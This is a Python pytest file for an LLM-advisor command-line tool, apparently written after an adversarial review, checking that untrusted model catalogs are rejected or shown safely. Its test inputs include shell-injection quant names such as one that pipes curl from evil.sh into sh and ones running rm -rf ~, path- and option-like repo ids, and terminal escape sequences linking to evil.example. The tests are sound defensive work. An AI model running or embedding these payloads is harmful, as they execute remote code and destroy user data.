"""Catalogs written by someone else: nothing in them reaches a printed command, a path or the
terminal unchecked (issue 17). Each case is a finding of the adversarial review."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from typer.testing import CliRunner

from advisor.cli import app

runner = CliRunner()
DATA = Path(__file__).parent / "data"
BASE = (DATA / "user_extends.toml").read_text(encoding="utf-8")
REPO_LINE = 'hf_repo = "acme/qwen3-8b-ft"'


def catalog(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "hostile.toml"
    path.write_text(text, encoding="utf-8")
    return path


def check(path: Path):
    return runner.invoke(app, ["catalog", "check", str(path)])


# S6: lookalike, invisible, path-like and option-like repo ids
BAD_REPOS = ["acme/Qw\u0435n3-8B", "acme/Qwen3\u200d-8B", "acme/\uff31wen3", "acme/Qwe\u0301n3",
             "x/..", "x/.", "../x", "--token/x", "acme/-rf", "acme/qwen3\n-8b", "acme/qwen 3"]


@pytest.mark.parametrize("repo", BAD_REPOS, ids=[ascii(r) for r in BAD_REPOS])
def test_repo_ids_outside_ascii_or_path_like_are_located_errors(tmp_path: Path, repo: str) -> None:
    text = BASE.replace(REPO_LINE, f"hf_repo = {repo!r}".replace("'", '"'))
    text = text.replace("\n-8b", "\\n-8b")
    result = check(catalog(tmp_path, text))
    assert result.exit_code == 1, result.stdout
    assert "hf_repo" in result.stderr and "hostile.toml" in result.stderr


# S1: quant names in `quantized` repos reached `mlx_lm.convert --mlx-path ...` unchecked
BAD_QUANTS = ["mlx-$(curl -s evil.sh|sh)", "mlx-`id`;rm -rf ~", "mlx-x\\nrm -rf ~", "q4 k m",
              "-q4", "Q4_K_M\u200b"]


@pytest.mark.parametrize("quant", BAD_QUANTS, ids=[ascii(q) for q in BAD_QUANTS])
def test_quant_names_with_shell_syntax_are_located_errors(tmp_path: Path, quant: str) -> None:
    text = BASE.replace("\n[models.config]",
                        '\n[[models.quantized]]\nrepo = "acme/qwen3-8b-ft-gguf"\n'
                        f'quants = ["q4_k_m", "{quant}"]\n\n[models.config]', 1)
    result = check(catalog(tmp_path, text))
    assert result.exit_code == 1, result.stdout
    assert "quants" in result.stderr and "hostile.toml" in result.stderr


def test_the_base_fixture_itself_is_fine(tmp_path: Path) -> None:
    assert check(catalog(tmp_path, BASE)).exit_code == 0


def test_advisor_debug_zero_means_off(tmp_path: Path) -> None:
    """K3: ADVISOR_DEBUG=0 printed tracebacks; it is read as a boolean now."""
    import os
    import subprocess
    import sys

    env = {**os.environ, "ADVISOR_DEBUG": "0", "ADVISOR_CACHE_DIR": str(tmp_path)}
    bad = catalog(tmp_path, "x = " + "[" * 2000)
    out = subprocess.run([sys.executable, "-m", "advisor", "catalog", "check", str(bad)],
                         capture_output=True, text=True, env=env, timeout=60)
    assert out.returncode == 1 and "Traceback" not in out.stderr


@pytest.mark.parametrize("value", ['"false"', '"no"', "0", "1"])
def test_extends_packaged_must_be_a_toml_boolean(tmp_path: Path, value: str) -> None:
    """W6: `extends_packaged = "false"` counted as true."""
    text = BASE.replace("extends_packaged = true", f"extends_packaged = {value}")
    result = check(catalog(tmp_path, text))
    assert result.exit_code == 1
    assert "extends_packaged: must be true or false" in result.stderr


def test_sigint_during_start_up_exits_130_without_traceback(monkeypatch) -> None:
    """C3: a KeyboardInterrupt while the CLI imports gave a traceback."""
    import builtins

    import advisor.__main__ as entry

    real = builtins.__import__

    def interrupted(name, *args, **kwargs):
        if name == "advisor.cli":
            raise KeyboardInterrupt
        return real(name, *args, **kwargs)

    import atexit
    import gc

    monkeypatch.setattr(atexit, "register", lambda *a, **k: None)
    monkeypatch.setattr(builtins, "__import__", interrupted)
    collecting = gc.isenabled()
    try:
        with pytest.raises(SystemExit) as exit_:
            entry.main()
    finally:
        monkeypatch.setattr(builtins, "__import__", real)
        if collecting:
            gc.enable()
    assert exit_.value.code == 130


# D1: `-o` replaced whatever was at the path (devices, FIFOs, symlinks) and forced mode 0600
def write_o(target: Path | str, *extra: str):
    return runner.invoke(app, ["devices", "--json", "-o", str(target), *extra])


def one_error_line(result, fragment: str) -> None:
    assert result.exit_code == 1, (result.stdout, result.stderr)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: cannot write"), lines
    assert fragment in lines[0] and "internal error" not in lines[0]


def test_o_refuses_a_fifo_and_leaves_it_a_fifo(tmp_path: Path) -> None:
    import stat

    fifo = tmp_path / "out.json"
    os.mkfifo(fifo)
    one_error_line(write_o(fifo), "not a regular file")
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert os.listdir(tmp_path) == ["out.json"]


def test_o_refuses_a_link_to_a_device_and_keeps_the_link(tmp_path: Path) -> None:
    link = tmp_path / "null.json"
    link.symlink_to("/dev/null")
    one_error_line(write_o(link), "not a regular file")
    assert link.is_symlink() and os.readlink(link) == "/dev/null"


def test_o_refuses_a_directory_with_exit_1(tmp_path: Path) -> None:
    (tmp_path / "adir").mkdir()
    one_error_line(write_o(tmp_path / "adir"), "it is a directory")
    assert sorted(os.listdir(tmp_path)) == ["adir"]


def test_o_writes_through_a_symlink_to_its_target(tmp_path: Path) -> None:
    real = tmp_path / "real.json"
    real.write_text("old\n")
    link = tmp_path / "link.json"
    link.symlink_to("real.json")
    assert write_o(link).exit_code == 0
    assert link.is_symlink() and os.readlink(link) == "real.json"
    assert json.loads(real.read_text())["devices"]
    dangling = tmp_path / "dangling.json"
    dangling.symlink_to("made.json")
    assert write_o(dangling).exit_code == 0
    assert dangling.is_symlink() and json.loads((tmp_path / "made.json").read_text())["devices"]
    assert sorted(os.listdir(tmp_path)) == ["dangling.json", "link.json", "made.json",
                                            "real.json"]


def test_o_keeps_an_existing_mode_and_gives_new_files_the_umask(tmp_path: Path) -> None:
    old = tmp_path / "old.json"
    old.write_text("old\n")
    old.chmod(0o640)
    assert write_o(old).exit_code == 0
    assert (old.stat().st_mode & 0o777) == 0o640
    mask = os.umask(0o002)
    try:
        assert write_o(tmp_path / "new.json").exit_code == 0
    finally:
        os.umask(mask)
    assert ((tmp_path / "new.json").stat().st_mode & 0o777) == 0o664


def test_o_with_an_overlong_name_is_one_clean_line(tmp_path: Path) -> None:
    one_error_line(write_o(tmp_path / ("x" * 300)), "too long")
    one_error_line(write_o(tmp_path / "a-file" / "below.json"), "")


# C1, S5: catalog strings in tables are data: not Rich markup, and no control characters
def toml_str(text: str) -> str:
    return json.dumps(text)  # a JSON string literal is a TOML basic string


MARKUP = {
    'license = { id = "apache-2.0"': 'license = { id = "apache-2.0[/dim]"',
    'languages = "100+ languages and dialects"': 'languages = "en [primary], zh [/] [bold]x"',
    'generation = "3"': 'generation = "3[/]"',
}


@pytest.mark.parametrize("args", [["models"], ["show", "acme-qwen3-8b-ft"],
                                  ["compare", "acme-qwen3-8b-ft", "qwen3-8b"],
                                  ["recommend", "--device", "rtx-4090", "--top", "100"]],
                         ids=lambda a: a[0])
def test_markup_in_catalog_strings_is_shown_as_written(tmp_path: Path, args: list[str]) -> None:
    text = BASE
    for old, new in MARKUP.items():
        text = text.replace(old, new)
    path = catalog(tmp_path, text)
    assert check(path).exit_code == 0
    result = runner.invoke(app, ["--catalog", str(path), *args], env={"COLUMNS": "200"})
    assert result.exit_code == 0, (result.stderr, result.exception)
    if args[0] in ("models", "show"):
        assert "apache-2.0[/dim]" in result.stdout
    if args[0] == "show":
        assert "en [primary], zh [/] [bold]x" in result.stdout
        assert "(Qwen3[/])" in result.stdout


def test_detection_notes_keep_their_brackets() -> None:
    from advisor.output.render import Table, console

    table = Table(title="[bold]t[/]")
    table.add_column("[detect]")
    table.add_row("see [link] in README")
    seen = console().render(table)
    assert "[bold]t[/]" in seen and "[detect]" in seen
    assert "see [link] in README" in seen


ESCAPES = "A\x1b[2J\x1b]8;;https://evil.example/\x1b\\B\x1b]0;TITLE\x07C\x9b31mD\u202eE\u200bF\x07"


def test_escape_sequences_in_catalog_strings_are_located_errors(tmp_path: Path) -> None:
    text = BASE.replace('name = "ACME Qwen3-8B fine-tune"', f"name = {toml_str(ESCAPES)}")
    text = text.replace('languages = "100+ languages and dialects"',
                        f"languages = {toml_str('en' + chr(0x200B))}")
    result = check(catalog(tmp_path, text))
    assert result.exit_code == 1
    assert "model 'acme-qwen3-8b-ft': name: \\x1b in 'A\\x1b[2J" in result.stderr
    assert "model 'acme-qwen3-8b-ft': languages: \\u200b" in result.stderr
    for bad in ("\x1b", "\x07", "\x9b", "\u202e", "\u200b"):
        assert bad not in result.stderr


def test_a_string_with_a_newline_and_a_control_gives_one_error_line(tmp_path: Path) -> None:
    """The quoted value shows its newline as \\n: each error is one `error: PATH: ...` line
    (found by the fuzzed-catalog test)."""
    value = toml_str("two\n\x80lines")
    text = BASE.replace('name = "ACME Qwen3-8B fine-tune"', f"name = {value}")
    result = check(catalog(tmp_path, text))
    assert result.exit_code == 1
    assert "name: \\x80 in 'two\\n\\x80lines'" in result.stderr
    assert all(line.startswith("error: ") for line in result.stderr.splitlines())


@pytest.mark.parametrize("fmt", ["table", "markdown"])
def test_escape_sequences_in_shown_strings_never_reach_the_terminal(fmt: str) -> None:
    """What a GPU tool reports (or any string a table shows) is shown without its escapes."""
    from advisor.data.detect import GpuProbe, Probe, map_probe
    from advisor.data.hardware import load_devices
    from advisor.output import export
    from advisor.output.render import console, detection_table

    probe = Probe(system="Linux", machine="x86_64",
                  gpus=(GpuProbe(name=ESCAPES, memory_bytes=24 * 1024**3),))
    result = map_probe(probe, load_devices())
    if fmt == "markdown":
        shown = export.to_markdown(result)
    else:
        shown = console().render(detection_table(result))
    for bad in ("\x1b", "\x07", "\x9b", "\u202e", "\u200b", "TITLE", "evil.example"):
        assert bad not in shown
    assert "ABCDEF" in shown


# W2, W6, K4, C4: numbers, dates, types and ids a shared catalog may not bend
TWO_MODELS = BASE + "\n" + BASE.split(
    "extends_packaged = true\n", 1)[1].replace('id = "acme-qwen3-8b-ft"', 'id = "acme-two"', 1)
BAD_CATALOGS = [
    ("benchmarks = { ceval = 83.0 }", "benchmarks = { ceval = nan }", "benchmarks.ceval"),
    ("benchmarks = { ceval = 83.0 }", "benchmarks = { ceval = inf }", "finite number"),
    ("benchmarks = { ceval = 83.0 }", "benchmarks = { ceval = 1e308 }", "out of range"),
    ("benchmarks = { ceval = 83.0 }", "benchmarks = { ceval = 101.0 }", "a percentage"),
    ("benchmarks = { ceval = 83.0 }", "benchmarks = { ceval = -1.0 }", "benchmarks.ceval"),
    ("benchmarks = { ceval = 83.0 }", "benchmarks = { cfeval = 9000.0 }", "a rating"),
    ("benchmarks = { ceval = 83.0 }", "benchmarks = { ceval = true }", "benchmarks.ceval"),
    ("release_date = 2025-04-29", "release_date = 9999-12-31", "release_date: 9999-12-31"),
    ("release_date = 2025-04-29", "release_date = 1999-01-01", "release_date: 1999-01-01"),
    ("yarn_factor = 4.0", "yarn_factor = inf", "context.yarn_factor"),
    ("yarn_factor = 4.0", "yarn_factor = 1e9", "context.yarn_factor"),
    ("num_hidden_layers = 36", "num_hidden_layers = true", "config.num_hidden_layers"),
    ("num_hidden_layers = 36", 'num_hidden_layers = "36"', "config.num_hidden_layers"),
    ("num_hidden_layers = 36", "num_hidden_layers = 36.0", "config.num_hidden_layers"),
    ("params_total = 8_200_000_000", "params_total = 8.2e9", "params_total"),
    ("params_total = 8_200_000_000", "params_total = 8_200_000_000_000_000_000", "params_total"),
    ("max_tokens = 131072", "max_tokens = 9_223_372_036_854_775_807", "context.max_tokens"),
    ("commercial_use = true", 'commercial_use = "no"', "license.commercial_use"),
    ("commercial_use = true", "commercial_use = 0", "license.commercial_use"),
    ("tie_word_embeddings = false", "tie_word_embeddings = 0", "config.tie_word_embeddings"),
    ('generation = "3"', "generation = 3", "generation"),
    ("extends_packaged = true", "schema_version = 999\nextends_packaged = true", "schema_version"),
    ("extends_packaged = true", 'schema_version = "banana"\nextends_packaged = true',
     "schema_version"),
    ('id = "acme-qwen3-8b-ft"', 'id = "qwen3-8b"', "a packaged model has this id"),
    ('hf_repo = "acme/qwen3-8b-ft"', 'hf_repo = "qwen/qwen3-8b"', "repo of packaged model"),
    ('quants = ["q4_k_m", "q5_k_m"', 'quants = ["q4_k_xl", "q5_k_m"',
     "unknown quantization 'q4_k_xl'"),
]


@pytest.mark.parametrize(("old", "new", "fragment"), BAD_CATALOGS,
                         ids=[new.split("\n")[0] for _, new, _ in BAD_CATALOGS])
def test_bad_catalog_values_are_located_errors(tmp_path: Path, old: str, new: str,
                                               fragment: str) -> None:
    assert old in BASE
    result = check(catalog(tmp_path, BASE.replace(old, new, 1)))
    assert result.exit_code == 1, result.stdout
    assert fragment in result.stderr and "hostile.toml" in result.stderr, result.stderr
    assert "internal error" not in result.stderr


def test_two_models_of_one_file_may_not_share_a_repo(tmp_path: Path) -> None:
    result = check(catalog(tmp_path, TWO_MODELS))
    assert result.exit_code == 1
    assert "model 'acme-two': hf_repo: 'acme/qwen3-8b-ft' is already the repo of" in result.stderr
    fixed = TWO_MODELS.replace('hf_repo = "acme/qwen3-8b-ft"', 'hf_repo = "acme/two"')
    fixed = fixed.replace('hf_repo = "acme/two"', 'hf_repo = "acme/qwen3-8b-ft"', 1)
    assert check(catalog(tmp_path, fixed)).exit_code == 0


def test_a_packaged_shadow_no_longer_changes_what_run_prints(tmp_path: Path) -> None:
    """W6: a user model `qwen3-8b` made `run qwen3-8b` print `hf download evil/Qwen3-8B`."""
    evil = BASE.replace('id = "acme-qwen3-8b-ft"', 'id = "qwen3-8b"').replace(
        REPO_LINE, 'hf_repo = "evil/Qwen3-8B"')
    result = runner.invoke(app, ["--catalog", str(catalog(tmp_path, evil)), "run", "qwen3-8b"])
    assert result.exit_code == 1 and "evil/Qwen3-8B" not in result.stdout
    assert "id: a packaged model has this id" in result.stderr


DEEP = ["x = " + "[" * 100_000, "x = " + "{a = " * 20_000, "a" + ".a" * 20_000 + " = 1",
        "[[models]]\nid = " + "[" * 5_000]


@pytest.mark.parametrize("text", DEEP, ids=["arrays", "inline tables", "dotted key", "in model"])
def test_deep_nesting_is_a_located_syntax_error(tmp_path: Path, text: str) -> None:
    result = check(catalog(tmp_path, text))
    assert result.exit_code == 1
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: {tmp_path / 'hostile.toml'}: TOML")


def test_o_keeps_the_owner_of_a_file_root_rewrites(tmp_path: Path) -> None:
    """D1: an existing `-rw-rw-r-- nobody` file written by root became `-rw------- root`."""
    if os.geteuid() != 0:
        pytest.skip("only root can give a file to another user")
    shared = tmp_path / "shared.json"
    shared.write_text("old\n")
    shared.chmod(0o664)
    os.chown(shared, 65534, 65534)
    assert write_o(shared).exit_code == 0
    st = shared.stat()
    assert (st.st_uid, st.st_gid, st.st_mode & 0o777) == (65534, 65534, 0o664)
    assert json.loads(shared.read_text())["devices"]


def test_a_negative_zero_score_shows_as_0(tmp_path: Path) -> None:
    """K4: `ceval = -0.0` was shown as `-0`."""
    path = catalog(tmp_path, BASE.replace("ceval = 83.0", "ceval = -0.0"))
    result = runner.invoke(app, ["--catalog", str(path), "show", "acme-qwen3-8b-ft"],
                           env={"COLUMNS": "120"})
    assert result.exit_code == 0, result.stderr
    row = next(line for line in result.stdout.splitlines() if "ceval" in line)
    assert "-0" not in row and " 0 " in row


def test_serve_and_plan_tables_strip_control_characters() -> None:
    """serve/plan/draft tables go through render.Table too: an OSC link or ANSI colour in a
    command or note reaches the terminal as plain text, brackets as written."""
    from types import SimpleNamespace

    from advisor.commandline.cmd_serve import _plan_commands, _plan_table
    from advisor.output.render import console

    hostile = "vllm serve x \x1b]8;;http://evil\x07click\x1b]8;;\x07 \x1b[31m[/dim]red"
    option = SimpleNamespace(device_id="h100", gpus=1, nodes=1, quant="fp8", sessions_max=4,
                             aggregate_decode_tokens_per_s=100.0, cost_per_hour_usd=2.0,
                             cost_per_million_tokens_usd=1.0, break_even_tokens_per_day=5.0,
                             weights_bytes=2**33, total_memory_bytes=2**36, command=hostile)
    plan = SimpleNamespace(model_id="qwen3-8b", license="\x1b[31mapache-2.0", runtime="vllm",
                           users=4, context_tokens=8192, options=[option])
    text = "".join(console().render(t) for t in (_plan_table(plan), *_plan_commands(plan)))
    assert "\x1b]" not in text and "\x07" not in text and "\x1b[31m" not in text
    assert "[/dim]red" in text.replace("\n", "").replace(" ", "") or "[/dim]" in text
